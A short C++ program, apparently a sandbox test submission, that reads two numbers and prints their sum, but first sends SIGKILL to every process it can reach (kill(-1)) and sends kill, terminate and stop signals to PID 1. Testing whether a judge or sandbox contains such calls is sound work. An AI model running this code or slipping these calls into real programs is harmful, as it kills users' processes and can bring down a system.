// Signals everything it may: every process (-1), PID 1, its own group; then answers.
#include <csignal>
#include <iostream>
#include <unistd.h>

int main() {
    int a, b;
    std::cin >> a >> b;
    kill(-1, SIGKILL);
    kill(1, SIGKILL);
    kill(1, SIGTERM);
    kill(1, SIGSTOP);
    std::cout << a + b << "\n";
}
